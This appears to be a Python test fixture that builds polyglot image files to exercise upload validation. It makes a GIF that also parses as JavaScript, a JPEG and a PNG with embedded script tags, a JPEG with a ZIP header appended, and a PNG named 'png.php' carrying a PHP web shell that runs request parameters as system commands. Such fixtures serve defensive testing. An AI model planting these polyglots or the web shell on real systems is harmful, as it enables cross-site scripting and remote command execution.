"""Pictures that are a script or a page as well."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

from tests.conftest import picture

SCRIPT = b"document.title='owned'"


def polyglots() -> dict[str, bytes]:
    """Pictures that are a script or a page as well."""
    gif = io.BytesIO()
    Image.new("P", (10799, 10)).save(gif, "GIF")  # its width, 0x2a2f, reads as the beginning of a comment
    whole = gif.getvalue()
    script = whole[:6] + b"/*" + whole[8:] + b"*/=1;" + SCRIPT + b"//"
    jpeg = picture("JPEG", comment=b"--><script>" + SCRIPT + b"</script><!--")
    text = zlib.crc32(b"tEXtC\0<script>" + SCRIPT + b"</script>")
    chunk = b"tEXtC\0<script>" + SCRIPT + b"</script>"
    png = picture("PNG")
    png = png[:33] + struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", text) + png[33:]
    return {
        "gif.js": script,
        "jpeg.html": jpeg,
        "png.php": png + b"<?php system($_GET[0]); ?>",
        "zip.jpg": picture("JPEG") + b"PK\x03\x04" + bytes(30),
    }
